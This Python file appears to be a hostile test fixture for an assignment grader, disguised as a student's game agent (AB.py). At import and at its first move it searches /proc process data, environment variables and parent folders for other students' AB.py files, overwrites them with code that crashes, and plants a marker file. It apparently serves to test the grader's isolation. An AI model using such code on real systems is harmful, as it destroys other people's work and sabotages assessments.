"""hostile3243 h01: rewrites the other students' AB.py (tests/data/hostile3243/README.md).

At import and at its first move it looks for the class folder and the other
students' copies where a program run with the teacher's rights would find
them: its parents' command lines, environments and working folders in
/proc, its own environment, and the four folders above its own. Every
AB.py one or two folders below any of them (not its own) that defines
studentAgent is replaced by one that raises, and `h3243-planted.txt` is left
beside the class's students. What it found and did goes to attack.log in its
own folder. Then it plays the plain mover's move.
"""

import os
import sys
import pathlib
# The move choice (the plain mover's) and the class's kit, copied beside
# this file by the test.
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from plain_mover import *  # noqa: E402,F401,F403
from hostile_kit import *  # noqa: E402,F401,F403

HERE = os.path.dirname(os.path.abspath(__file__))


SABOTAGE = ("def studentAgent(gameboard):\n"
            "    raise RuntimeError('h3243: sabotaged by a classmate')\n")
NOT_THERE = ("/", "/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/lib", "/sbin")


def places():
    """Every folder where a class or its copies might be."""
    found = set()

    def add(text):
        if text.startswith("/") and os.path.isdir(text):
            found.add(os.path.realpath(text))

    for pid in ancestors():
        for word in proc_words(pid, "cmdline"):
            add(word)
        for pair in proc_words(pid, "environ"):
            add(pair.split("=", 1)[-1])
        try:
            add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    for value in os.environ.values():
        add(value)
    above = pathlib.Path(HERE)
    for _ in range(4):
        above = above.parent
        add(str(above))
    return sorted(p for p in found if p not in NOT_THERE)


def attack():
    """Rewrites what it can find; says what."""
    own = os.path.realpath(__file__)
    rewritten, planted = [], []
    seen = places()
    for place in seen:
        for pattern in ("*/AB.py", "*/*/AB.py"):
            for victim in pathlib.Path(place).glob(pattern):
                path = os.path.realpath(victim)
                if path == own or path in rewritten:
                    continue
                try:
                    if "def studentAgent" not in victim.read_text(errors="replace"):
                        continue
                    victim.write_text(SABOTAGE)
                    rewritten.append(path)
                except OSError:
                    continue
                try:
                    plant = pathlib.Path(place, "h3243-planted.txt")
                    plant.write_text("h3243 was here\n")
                    planted.append(str(plant))
                except OSError:
                    pass
    say(f"rewrite places {seen}")
    say(f"rewrite rewrote {len(rewritten)}: {rewritten}")
    say(f"rewrite planted {sorted(set(planted))}")


attack()
attacked_at_move = False




def studentAgent(gameboard):  # noqa: N802 - the hand-out's name
    """The hand-out's interface: the attack once more at the first move, then the
    plain mover's move."""
    global attacked_at_move
    if not attacked_at_move:
        attacked_at_move = True
        attack()
    return choose(gameboard)
